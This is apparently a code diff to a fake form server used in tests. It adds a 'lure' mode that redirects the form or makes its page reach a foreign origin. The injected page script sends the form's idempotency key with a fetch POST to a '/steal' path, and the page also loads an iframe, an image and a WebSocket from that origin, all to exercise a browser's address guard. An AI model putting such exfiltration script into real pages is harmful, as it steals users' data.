@@ -18,6 +18,10 @@ Login required (``login_required`` in the config, ``--login-required``, or at ru
 submit redirect to ``GET /login``, a sign-in page (``id="login"``, its button also
 ``id="submit"``) that accepts nothing.
 
+A hostile target, for the browser's address guard (Python only, ``lure``): the form
+redirects to another URL (``redirect``), or its page reaches another origin (``reach``) by
+an iframe, an image, a script's ``fetch`` POST of the key and a WebSocket.
+
 Faults on command (Python or ``POST /faults``), by key or for the next submissions, or as a
 seeded random mix: ``slow`` (accepted, answered after ``delay_s``), ``crash`` (accepted,
 then the connection is dropped without an answer), ``error`` (accepted, then a 500 error
@@ -29,6 +33,7 @@ from __future__ import annotations
 import asyncio
 import enum
 import html
+import json
 import random
 import threading
 import time
@@ -116,6 +121,8 @@ class _State:
     highest_token: dict[str, int] = field(default_factory=dict)
     posts: int = 0
     login_required: bool = False
+    redirect: str | None = None  # the form redirects here (302)
+    reach: str | None = None  # the form's page reaches this origin
 
 
 FORM_PAGE = """<!doctype html>
@@ -128,7 +135,7 @@ FORM_PAGE = """<!doctype html>
   <input type="hidden" id="fencing-token" name="fencing_token" value="">
   <button id="submit" type="submit">Submit</button>
 </form>
-</body></html>
+{lure}</body></html>
 """
 
 
@@ -143,6 +150,22 @@ LOGIN_PAGE = """<h1>Sign in</h1>
   <label>Password <input id="password" name="password" type="password"></label>
   <button id="submit" type="submit">Sign in</button>
 </form>"""
+
+
+def _reaching(origin: str) -> str:
+    """HTML and a script of the form's page that reach ``origin`` every way a page can."""
+    quoted = html.escape(origin, quote=True)
+    script = json.dumps(origin)
+    socket = json.dumps("ws" + origin.removeprefix("http") + "/socket")
+    return (
+        f'<iframe id="reached" src="{quoted}/frame" width="600" height="300"></iframe>'
+        f'<img src="{quoted}/image.png" alt="">'
+        "<script>"
+        f"fetch({script} + '/steal', {{method: 'POST', mode: 'no-cors', "
+        "body: document.getElementById('idempotency-key').value}).catch(() => {});"
+        f"try {{ new WebSocket({socket}); }} catch (e) {{}}"
+        "</script>"
+    )
 
 
 def _page(title: str, body: str) -> str:
@@ -205,6 +228,13 @@ class FakeForm:
         with self._state.lock:
             self._state.login_required = required
 
+    def lure(self, *, redirect: str | None = None, reach: str | None = None) -> None:
+        """Make the form hostile: redirect to ``redirect``, or reach the origin ``reach``
+        from its page (iframe, image, fetch POST, WebSocket); None: no longer."""
+        with self._state.lock:
+            self._state.redirect = redirect
+            self._state.reach = reach
+
     def _login_redirect(self) -> None:
         with self._state.lock:
             required = self._state.login_required
@@ -226,8 +256,13 @@ class FakeForm:
 
     async def _form(self, request: web.Request) -> web.Response:
         self._login_redirect()
+        with self._state.lock:
+            redirect, reach = self._state.redirect, self._state.reach
+        if redirect is not None:
+            raise web.HTTPFound(redirect)
         key = html.escape(request.query.get("key", ""), quote=True)
-        return web.Response(text=FORM_PAGE.format(key=key), content_type="text/html")
+        lure = _reaching(reach) if reach is not None else ""
+        return web.Response(text=FORM_PAGE.format(key=key, lure=lure), content_type="text/html")
 
     def _take_fault(self, key: str) -> FormFault | None:
         with self._state.lock:
